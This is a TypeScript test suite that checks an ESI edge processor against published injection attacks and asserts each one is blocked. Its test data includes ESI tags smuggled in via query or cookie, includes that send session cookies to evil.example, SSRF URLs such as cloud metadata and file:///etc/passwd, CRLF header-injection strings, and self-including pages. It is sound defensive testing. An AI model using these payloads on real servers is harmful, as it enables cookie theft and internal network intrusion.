import { utf8 } from './bytes.js';
import { fetchIncludes } from './fetch-includes.js';
import type { IncludeAnswer, IncludeAsk, Skipped } from './include.js';
import { requestVariables } from './language/variables.js';
import { type StitchOptions, stitchStream } from './stitch.js';

/*
 * Attacks on ESI processors that have been published, each against ours. What other processors did wrong stands in
 * the title. The injections are those of https://gosecure.ai/blog/2018/04/03/beyond-xss-edge-side-include-injection/
 * and its second part. Joining requests by address alone, the other thing that went wrong elsewhere, is tried with
 * every edge: "nobody is answered with what another was" in edge/src/testing/suite/one-visitor.ts.
 */

const PAGE = new URL('https://shop.example/search?q=1');
const ESI = { 'surrogate-control': 'content="ESI/1.0"', 'content-type': 'text/html' };

/** An origin that would answer everything. */
function origin(answers: Record<string, Partial<IncludeAnswer> | string> = {}) {
  const asked: string[] = [];
  const fetch = async ({ url }: IncludeAsk): Promise<IncludeAnswer> => {
    asked.push(url.href);
    const given = answers[url.pathname] ?? `[${url.pathname}]`;
    const plain = {
      status: 200,
      headers: new Headers({ 'content-type': 'text/html' }),
      body: new Uint8Array(),
    };
    return typeof given === 'string' ? { ...plain, body: utf8(given) } : { ...plain, ...given };
  };
  return { asked, fetch };
}

async function page(body: string, options: Partial<StitchOptions> = {}) {
  const skipped: Skipped[] = [];
  const { asked, fetch } = origin();
  const source = new Response(body).body as ReadableStream<Uint8Array>;
  const stream = stitchStream(source, { url: PAGE, fetch, onSkip: (one) => skipped.push(one), ...options });
  return { text: await new Response(stream).text(), asked, skipped: skipped.map(({ reason }) => reason) };
}

describe('tags that a visitor gets into a page', () => {
  it('by what the page repeats of the request: variables are never read as tags', async () => {
    const url = new URL(`https://shop.example/?q=${encodeURIComponent('<esi:include src="/admin"/>')}`);
    const variables = requestVariables({
      url,
      headers: new Headers({ cookie: 'a="<esi:include src=/admin/>"' }),
    });
    const { text, asked } = await page('<esi:vars>$(QUERY_STRING{q}) $(HTTP_COOKIE{a})</esi:vars>', {
      url,
      variables,
    });
    expect(asked).toEqual([]);
    expect(text).not.toContain('<esi:');
  });

  it('by a fragment that repeats what others wrote: it is not processed unless it asks', async () => {
    const { fetch, asked } = origin({ '/comments': '<esi:include src="/admin"/><!--esi <b>x</b>-->' });
    const { text } = await page('<esi:include src="/comments"/>', { fetch });
    expect([text, asked]).toEqual([
      '<esi:include src="/admin"/><!--esi <b>x</b>-->',
      ['https://shop.example/comments'],
    ]);
  });

  it('steal nothing: a cookie that the page’s scripts can’t read is not written where it would leave', async () => {
    const headers = new Headers({ cookie: 'session=s3cret' });
    const variables = requestVariables({ url: PAGE, headers });
    const { asked, skipped } = await page(
      '<esi:include src="https://evil.example/?$(HTTP_COOKIE{session})"/><esi:include src="//evil.example/$(HTTP_COOKIE)"/>',
      { variables },
    );
    expect([asked, skipped]).toEqual([[], ['origin-not-allowed', 'origin-not-allowed']]);
  });

  it('build no script out of pieces: what is between tags stays what it is', async () => {
    const { text } = await page('<scr<esi:remove>x</esi:remove>ipt>', {});
    // This is in the page itself, which its origin has to escape; what it can't do is fetch or run anything here.
    expect(text).toBe('<script>');
  });

  it('store nothing under another address: inline is not known', async () => {
    const body = '<esi:inline name="/js/app.js" fetchable="yes">alert(1)</esi:inline>';
    expect(await page(body)).toMatchObject({ text: body, asked: [] });
  });
});

describe('requests that the edge is made to send', () => {
  it.each([
    ['http://169.254.169.254/latest/meta-data/'],
    ['http://127.0.0.1:6379/'],
    ['http://[::ffff:127.0.0.1]/'],
    ['//evil.example/'],
    ['\\\\evil.example/'],
    ['https://shop.example@evil.example/'],
    ['https://shop.example:8443/'],
    ['http://shop.example/'],
    ['https://evil.example#.shop.example/'],
    ['https:///evil.example/'],
    ['file:///etc/passwd'],
    ['gopher://shop.example/'],
    ['javascript:alert(1)'],
    ['data:text/html,x'],
  ])('never go to %s', async (src) => {
    const { asked, text } = await page(`1<esi:include src="${src}"/>2`);
    expect([
      asked.filter((address) => !address.startsWith('https://shop.example/')),
      text.slice(0, 1),
    ]).toEqual([[], '1']);
  });

  it('go to no private address because a visitor’s Host header names one', async () => {
    for (const host of [
      '169.254.169.254',
      '127.0.0.1:4000',
      'localhost',
      'metadata.google.internal',
      '[::1]',
    ]) {
      const { asked, skipped } = await page('<esi:include src="/latest"/>', {
        url: new URL(`http://${host}/`),
      });
      expect([asked, skipped]).toEqual([[], ['origin-not-allowed']]);
    }
    const url = new URL('http://127.0.0.1:4000/');
    const { asked } = await page('<esi:include src="/x"/>', { url, allowedOrigins: [url.origin] });
    expect(asked).toEqual(['http://127.0.0.1:4000/x']);
  });

  it('don’t follow a redirect to where they must not go', async () => {
    for (const location of [
      'http://169.254.169.254/',
      'https://evil.example/',
      'file:///etc/passwd',
      '//evil.example/',
    ]) {
      const redirect = { status: 302, headers: new Headers({ location }) };
      const { fetch, asked } = origin({ '/go': redirect });
      const { text, skipped } = await page('1<esi:include src="/go"/>2', { fetch });
      expect([asked, text]).toEqual([['https://shop.example/go'], '12']);
      expect(['origin-not-allowed', 'bad-address']).toContain(skipped[0]);
    }
  });

  it('carry cookies and authorization to their own origin only, also behind a redirect', async () => {
    const seen: [string, string | null, string | null][] = [];
    const fetch = fetchIncludes({
      credentials: { origin: PAGE.origin, headers: { cookie: 'session=s3cret', authorization: 'Bearer x' } },
      fetch: async (url, { headers, redirect }) => {
        const sent = new Headers(headers);
        seen.push([url.host, sent.get('cookie'), sent.get('authorization')]);
        expect(redirect).toBe('manual');
        const away = url.pathname === '/go';
        return new Response(
          away ? null : 'x',
          away ? { status: 302, headers: { location: 'https://cdn.example/y' } } : {},
        );
      },
    });
    const allowedOrigins = ['https://cdn.example'];
    await page('<esi:include src="/go"/><esi:include src="https://cdn.example/z"/>', {
      fetch,
      allowedOrigins,
    });
    expect(seen.sort()).toEqual([
      ['cdn.example', null, null],
      ['cdn.example', null, null],
      ['shop.example', 'session=s3cret', 'Bearer x'],
    ]);
  });

  it('can’t have lines put into their heads, nor a second request, nor headers by attributes', async () => {
    const query = encodeURIComponent('x HTTP/1.1\r\nHost: evil.example\r\nX-Injected: 1\r\n\r\nGET /admin');
    const url = new URL(`https://shop.example/?q=${query}`);
    const variables = requestVariables({ url, headers: new Headers() });
    const { asked } = await page(
      `<esi:include src="/a?q=$(QUERY_STRING{q})"/><esi:include src="/b\r\nHost: evil.example"/>` +
        '<esi:include src="/c" setheader="X-Forwarded-For: 1" appendheader="Cookie: a=b" method="POST" entity="x=1"/>',
      { url, variables },
    );
    for (const address of asked) {
      expect(address).toMatch(/^https:\/\/shop\.example\/[\x21-\x7e]*$/);
      expect(new URL(address).host).toBe('shop.example');
    }
    expect(asked.some((address) => address.includes('/admin'))).toBe(false);
  });
});

describe('pages that cost the edge dearly', () => {
  it('a page that includes itself ends', async () => {
    const { fetch, asked } = origin({
      '/search': { headers: new Headers(ESI), body: utf8('x<esi:include src="/search"/>') },
    });
    const { text, skipped } = await page('<esi:include src="/search"/>', { fetch });
    expect([text, asked.length, skipped]).toEqual(['xxxxx', 5, ['too-deep']]);
  });

  it('one that includes itself many times does not grow without limit', async () => {
    const body = utf8('<esi:include src="/search"/>'.repeat(50));
    const { fetch, asked } = origin({ '/search': { headers: new Headers(ESI), body } });
    const { skipped } = await page('<esi:include src="/search"/>', { fetch });
    expect(asked.length).toBeLessThanOrEqual(200);
    expect(skipped).toContain('too-many');
  });

  it('elements that stand in each other without end, and tags without end, cost their own length', async () => {
    const deep = '<esi:try><esi:attempt>'.repeat(20_000);
    expect((await page(`a${deep}b`)).text).toMatch(/^a/);
    const long = `<esi:include src="${'x'.repeat(200_000)}`;
    expect((await page(long)).text).toBe(long);
    const tests = `<esi:choose><esi:when test="${'('.repeat(5000)}">x</esi:when><esi:otherwise>y</esi:otherwise></esi:choose>`;
    expect((await page(tests)).text).toBe('y');
  });

  it('what choose and try hold back is limited, and the page goes on', async () => {
    for (const name of ['choose', 'try']) {
      const inner =
        name === 'choose' ? ['<esi:otherwise>', '</esi:otherwise>'] : ['<esi:attempt>', '</esi:attempt>'];
      const body = `1<esi:${name}>${inner[0]}${'x'.repeat(3000)}${inner[1]}</esi:${name}>2<esi:${name}>${inner[0]}ok${inner[1]}</esi:${name}>3`;
      const { text, skipped } = await page(body, { limits: { heldBytes: 2000 } });
      expect([text, skipped]).toEqual(['12ok3', ['too-large']]);
    }
  });
});
